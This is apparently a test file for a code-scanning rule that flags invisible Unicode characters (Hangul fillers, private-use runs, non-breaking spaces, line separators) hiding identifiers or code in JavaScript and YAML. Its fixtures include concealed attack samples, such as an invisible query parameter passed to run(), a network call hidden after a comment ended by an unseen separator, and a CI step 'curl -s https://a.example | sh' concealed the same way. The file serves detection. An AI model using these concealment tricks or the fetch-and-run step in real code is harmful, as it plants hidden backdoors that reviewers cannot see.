import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf, said } from '#test/support/scan-package.js';
import { rule } from './invisible-letter.rule.js';

const FILLER = '\u3164', NBSP = '\u00A0';
const js = (text: string) => said(rule, { 'a.js': text });

test('bad: names that show as nothing', () => {
  assert.deepEqual(js(`const { timeout,${FILLER}} = req.query`), ['high a.js:1']);
  assert.deepEqual(js('x = { \uFFA0: 1 }'), ['high a.js:1']);
  assert.deepEqual(js(`const proxy = { get: (_, n) => [...n].map((c) => +('\uFFA0' > c)) }`), ['high a.js:1']);
});

test('bad: characters of private use in rows, blanks that are none', () => {
  assert.deepEqual(js(`run("${Array.from({ length: 20 }, (_, index) => String.fromCharCode(0xe000 + index)).join('')}")`), ['high a.js:1']);
  assert.deepEqual(js(`const a =${NBSP}1;\n// a${NBSP}b\nconst b = "a${NBSP}b";`), ['low a.js:1']);
});

test('good: Korean, also in single letters', () => {
  assert.deepEqual(said(rule, { 'ko.md': '한국어\u1160', 'ko.js': 'const a = "한국어", ㄱ = 1' }), []);
});

test('good: icons of a font, blanks in texts, templates, patterns and comments', () => {
  assert.deepEqual(js('const icons = { close: "\uE001", open: "\uE002\uE003" }'), []);
  assert.deepEqual(js(`/* a${NBSP}b */ const p = /a${NBSP}b/, t = \`a${NBSP}\${1}${NBSP}b\`, u = "//${NBSP}"; //${NBSP}`), []);
});

const inOrder = (length: number) => Array.from({ length }, (_, index) => String.fromCharCode(0xf8d8 + index)).join('');

test('good: entries of tables', () => {
  assert.deepEqual(js(`const letters = "${'ΆΈ-ΊΌΎ-Ρ'.repeat(20)}ﾞ-ﾟ${'\uFFA0'}-ﾾ";`), ['low a.js:1']);
  assert.deepEqual(js(`const page = "${'абвгд'.repeat(20)}${inOrder(20)}";`), ['low a.js:1']);
  const width = (at: number): string => `  "${String.fromCodePoint(at)}": 6,\n`;
  assert.deepEqual(js(`const widths = {\n${[0xff9e, 0xff9f, 0xffa0, 0xffa1].map(width).join('')}};`), ['low a.js:4']);
  assert.deepEqual(js(`const widths = {\n${[0xff9e, 0xff9d, 0xffa0, 0xffa1].map(width).join('')}};`), ['high a.js:4']);
  assert.deepEqual(said(rule, { 'a.flf': `${'0xFFA1 ｡\n ##@\n'.repeat(20)}0xFFA0 ${'\uFFA0'}\n` }), ['low a.flf:41']);
});

test('bad: payloads among other characters', () => {
  const shuffled = Array.from(inOrder(32)).sort((a, b) => (a.charCodeAt(0) % 7) - (b.charCodeAt(0) % 7)).join('');
  assert.deepEqual(js(`const page = "${'абвгд'.repeat(40)}${shuffled}";`), ['high a.js:1']);
  assert.deepEqual(js(`const page = "${'абвгд'.repeat(4)}${inOrder(20)}";`), ['high a.js:1']);
  assert.deepEqual(js(`const bits = "${`a${'\uFFA0'}b${FILLER}-`.repeat(40)}";`)[0], 'high a.js:1');
});

test('good: fillers in classes of patterns; bad: in texts, and more than a class needs', () => {
  assert.deepEqual(js(`const hidden = /[${FILLER}\uFFA0]/g, wide = /[\uFE30-\uFFA0]/;`), ['low a.js:1', 'low a.js:1']);
  assert.deepEqual(js(`const a = "[${FILLER}]", b = /${FILLER}/;`), ['high a.js:1', 'high a.js:1']);
  assert.deepEqual(js(`run(/[${`a${FILLER}b\uFFA0`.repeat(4)}]/)`)[0], 'high a.js:1');
});

test('good: the filler as one entry of a table of Korean letters; bad: a key of its own', () => {
  assert.deepEqual(js(`t["ㅣ"] = "ᅵ"; t["${FILLER}"] = "\u1160"; t["ㅥ"] = "ᄔ";`), ['low a.js:1', 'low a.js:1']);
  for (const attack of [`const a = req.query["${FILLER}"]; run(a)`, `t["ㅣ"] = 1; run(q["${FILLER}"]); done();`, `t["ㅣ"] = "ᅵ"; const { ${FILLER} } = q; t["ㅥ"] = "ᄔ";`, `t["ㅣ"] = "${FILLER}\uFFA0${FILLER}"; t["ㅥ"] = 1`]) assert.equal(js(attack)[0], 'high a.js:1', attack);
});

test('good: rows of a table of a code page; bad: rows that repeat or that are in no order', () => {
  const page = (rows: number, startOf: (row: number) => number, order: (codes: number[]) => number[] = (codes) => codes): string[] => js(Array.from({ length: rows }, (_, row) => {
    const codes = order(Array.from({ length: 63 }, (__, at) => startOf(row) + at));
    return `D[${row}] = "${'\uFFFD'.repeat(65)}${String.fromCharCode(...codes)}\uFFFD".split("");`;
  }).join('\n'));
  const worst = (said: string[]): string => said.map((each) => each.split(' ')[0]!).find((severity) => severity !== 'low') ?? 'low';
  assert.equal(worst(page(60, (row) => 0xe000 + row * 64)), 'low');
  assert.equal(worst(page(32, (row) => 0xf800 - row * 64)), 'low', 'of several tables, each begins anew');
  assert.equal(worst(page(34, (row) => 0xf800 - row * 64)), 'high', 'rows say something by where they begin');
  assert.equal(worst(page(1, () => 0xe000, (codes) => codes.map((code) => code ^ 5))), 'high');
  assert.equal(worst(page(1, () => 0xe000, (codes) => codes.map((code, at) => code + (at > 20 ? 99 : 0) + (at > 40 ? 99 : 0)))), 'high', 'three pieces');
});

test('bad: code behind a comment that ends where no editor shows it; good: such an end in a text, or with nothing behind it', () => {
  assert.deepEqual(js("// see the notes\u2028require('https').get(address); // of 1.0.2"), ['high a.js:1']);
  assert.deepEqual(js('run(); // done\u2029stop();'), ['high a.js:1']);
  assert.deepEqual(js('const text = "one\u2028two"; /* a\u2028b */ run();'), []);
  assert.deepEqual(js('run(); // done\u2028\n\u2028// more\nstop();'), ['low a.js:1', 'low a.js:2']);
});

test('what is found has what a report takes, and nothing else', () => {
  const names = ['column', 'evidence', 'file', 'help', 'line', 'message', 'rule', 'severity'];
  for (const text of [`const a =${NBSP}1;`, '// see the notes\u2028run();', `x = { ${FILLER}: 1 }`]) for (const finding of findingsOf(rule, { 'a.js': text })) assert.deepEqual(Object.keys(finding).sort(), names);
});

test('a filler alone in a text is one letter more where there are many of Korean, or in data; bad: elsewhere', () => {
  const korean = Array.from({ length: 19 }, (_, at) => `'${String.fromCharCode(0x3131 + at)}'`).join(', ');
  assert.deepEqual(js(`const letters = [${korean}];\n\nconst filler = '${FILLER}';`), ['low a.js:3']);
  assert.deepEqual(js(`const filler = '${FILLER}';`), ['high a.js:1']);
  assert.deepEqual(js(`const letters = [${korean}];\nconst ${FILLER} = 1;`), ['high a.js:2']);
  assert.deepEqual(said(rule, { 'alike.json': `[["${FILLER}", " "]]` }), ['low alike.json:1']);
});

test('bad: a step behind a comment of YAML that ends where no editor shows it; good: such an end in a text', () => {
  assert.deepEqual(said(rule, { '.ci/pipeline.yml': 'steps:\n  # disabled since 1.2:\u2028  - run: curl -s https://a.example | sh\n  - run: npm test\n' }), ['high .ci/pipeline.yml']);
  assert.deepEqual(said(rule, { 'texts.yaml': 'title: "one\u2028two: three"\n# a note\u2028 of two lines\n' }), []);
});
